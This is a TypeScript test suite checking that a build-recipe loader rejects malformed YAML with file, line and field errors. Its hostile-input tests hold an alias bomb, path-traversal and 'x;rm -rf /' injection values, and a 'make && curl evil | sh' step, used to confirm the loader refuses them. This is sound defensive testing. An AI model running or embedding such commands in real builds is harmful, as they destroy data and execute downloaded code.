/**
 * Every kind of malformed recipe fails with file, line, field path and what is allowed.
 */
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { InvalidInputError } from '../../src/core/errors.js';
import { DEFAULT_RECIPES_DIR, loadRecipes } from '../../src/recipe/loader.js';
import { tempDir } from '../helpers/tmp.js';

/** A copy of the real recipes with one file replaced (or edited). */
async function recipesWith(file: string, edit: (text: string) => string): Promise<string> {
  const dir = join(await tempDir(), 'recipes');
  cpSync(DEFAULT_RECIPES_DIR, dir, { recursive: true });
  const path = join(dir, file);
  writeFileSync(path, edit(readFileSync(path, 'utf8')));
  return dir;
}

async function loadError(dir: string): Promise<string> {
  try {
    await loadRecipes(dir);
  } catch (err) {
    assert.ok(err instanceof InvalidInputError, `expected InvalidInputError, got ${String(err)}`);
    return err.message;
  }
  assert.fail('the recipes loaded, but they are malformed');
}

const BRANCH = 'branches/release-1.18.yaml';
const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('recipe validation', () => {
  test('the real recipes load', async () => {
    const set = await loadRecipes();
    assert.ok(set.branches.has('release-1.18'));
  });

  test('bad YAML names file and line', async () => {
    const dir = await recipesWith(BRANCH, (t) => t.replace('kubernetes: "1.18"', 'kubernetes: "1.18\n  bad: [unclosed'));
    const msg = await loadError(dir);
    assert.match(msg, /branches\/release-1\.18\.yaml:\d+: \(document\): invalid YAML/);
  });

  test('wrong type names the field path and the expected type', async () => {
    let text = '';
    const dir = await recipesWith(BRANCH, (t) => (text = t.replace('toolchain: go1.13.10', 'toolchain: [go1.13.10]')));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`release-1\\.18\\.yaml:${lineOf(text, 'toolchain: [')}: toolchain: expected string or \\{ follow \\}, received array`));
  });

  test('unknown key names the key, its line and the allowed keys', async () => {
    let text = '';
    const dir = await recipesWith(BRANCH, (t) => (text = t + 'kubernets: "1.18"\n'));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`release-1\\.18\\.yaml:${lineOf(text, 'kubernets:')}: kubernets: unknown key "kubernets" \\(allowed: kind, name, kubernetes, versionTags, toolchain, components, overrides\\)`));
  });

  test('unknown key deep inside a build names the full path', async () => {
    let text = '';
    const dir = await recipesWith('components/conmon.yaml', (t) => (text = t.replace('  strategy: cross', '  strategy: cross\n  stragety: emulate')));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`conmon\\.yaml:${lineOf(text, 'stragety')}: build\\.stragety: unknown key "stragety" \\(allowed: language, cgo, builder, strategy, `));
  });

  test('missing field names it', async () => {
    const dir = await recipesWith(BRANCH, (t) => t.replace(/^kubernetes: .*\n/m, ''));
    const msg = await loadError(dir);
    assert.match(msg, /release-1\.18\.yaml:\d+: kubernetes: missing required field \(expected string or \{ follow \}\)/);
  });

  test('a sha256 that is not 64 hex digits says what is allowed', async () => {
    let text = '';
    const dir = await recipesWith('toolchains/go1.13.10.yaml', (t) => (text = t.replace('8a4cbc9f2b95d114c38f6cbe94a45372d48c604b707db2057c787398dfbf8e7f', '8a4cbc9f')));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`go1\\.13\\.10\\.yaml:${lineOf(text, 'sha256: 8a4cbc9f')}: archives\\.amd64\\.sha256: .*64 lower-case hex digits`));
  });

  test('a licence that is not an SPDX expression says what is allowed; an expression of SPDX identifiers loads', async () => {
    let text = '';
    const dir = await recipesWith('components/conmon.yaml', (t) => (text = t.replace('license: Apache-2.0', 'license: Apache 2')));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`conmon\\.yaml:${lineOf(text, 'license: Apache 2')}: license: an SPDX licence expression of SPDX licence identifiers, such as Apache-2\\.0`));
    const ok = await recipesWith('components/conmon.yaml', (t) => t.replace('license: Apache-2.0', 'license: Apache-2.0 AND (MIT OR GPL-2.0-or-later)'));
    assert.equal((await loadRecipes(ok)).components.get('conmon')?.recipe.license, 'Apache-2.0 AND (MIT OR GPL-2.0-or-later)');
  });

  test('an enum value lists the allowed values', async () => {
    let text = '';
    const dir = await recipesWith('components/conmon.yaml', (t) => (text = t.replace('strategy: cross', 'strategy: fast')));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`conmon\\.yaml:${lineOf(text, 'strategy: fast')}: build\\.strategy: not an allowed value \\(allowed: "emulate", "cross"\\)`));
  });

  test('an unknown component reference lists the known components', async () => {
    let text = '';
    const dir = await recipesWith(BRANCH, (t) => (text = t.replace('conmon: { tag: v2.0.19 }', 'conmom: { tag: v2.0.19 }')));
    const msg = await loadError(dir);
    assert.match(msg, new RegExp(`release-1\\.18\\.yaml:${lineOf(text, 'conmom')}: components\\.conmom: unknown component "conmom" \\(known: .*conmon.*\\)`));
  });

  test('a tag that is not pinned lists the pinned tags', async () => {
    const dir = await recipesWith(BRANCH, (t) => t.replace('conmon: { tag: v2.0.19 }', 'conmon: { tag: v9.9.9 }'));
    const msg = await loadError(dir);
    assert.match(msg, /components\.conmon\.tag: tag "v9\.9\.9" is not pinned in .*conmon\.yaml \(pinned: v2\.0\.11, v2\.0\.12, v2\.0\.15, v2\.0\.19, v2\.1\.13\)/);
  });

  test('a component ref that is not one of the allowed forms shows them all', async () => {
    const dir = await recipesWith(BRANCH, (t) => t.replace('conmon: { tag: v2.0.19 }', 'conmon: { commit: abc }'));
    const msg = await loadError(dir);
    assert.match(msg, /components\.conmon: does not match any allowed form \(allowed: \{ tag \} or \{ branch \} or \{ follow \} or \{ inTreeOf \}\)/);
  });

  test('an unknown toolchain is named with the known ones', async () => {
    const dir = await recipesWith(BRANCH, (t) => t.replace('toolchain: go1.13.10', 'toolchain: go1.99'));
    const msg = await loadError(dir);
    assert.match(msg, /toolchain: unknown toolchain "go1\.99" \(known: go1\.13\.10, go1\.26\.4\)/);
  });

  test('a name that does not match its file is refused', async () => {
    const dir = await recipesWith(BRANCH, (t) => t.replace('name: release-1.18', 'name: release-1.81'));
    const msg = await loadError(dir);
    assert.match(msg, /name: "release-1\.81" must match the file name "release-1\.18"/);
  });

  test('hostile input: alias bombs, huge files and unsafe names are refused', async () => {
    const bomb = ['kind: branch', 'a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i++) bomb.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    let dir = await recipesWith(BRANCH, () => bomb.join('\n') + '\n');
    assert.match(await loadError(dir), /aliases are limited|alias/i);

    dir = await recipesWith(BRANCH, (t) => t + `# ${'x'.repeat(300 * 1024)}\n`);
    assert.match(await loadError(dir), /too large \(at most 262144 bytes allowed\)/);

    for (const bad of ['"../../etc"', '"-rf"', '"a b"', '"x;rm -rf /"']) {
      dir = await recipesWith(BRANCH, (t) => t.replace('toolchain: go1.13.10', `toolchain: ${bad}`));
      assert.match(await loadError(dir), /toolchain: (lower-case letters|must not contain)/, bad);
    }
  });

  test('a step is an argv list, never a shell string', async () => {
    const dir = await recipesWith('components/conmon.yaml', (t) => t.replace('- [make, "GIT_COMMIT={commit}"]', '- "make && curl evil | sh"'));
    const msg = await loadError(dir);
    assert.match(msg, /build\.steps\.0: expected array, received string/);
  });

  test('empty recipes dir is refused', async () => {
    const dir = join(await tempDir(), 'empty');
    mkdirSync(join(dir, 'branches'), { recursive: true });
    await assert.rejects(loadRecipes(dir), /no branch recipes found/);
  });
});
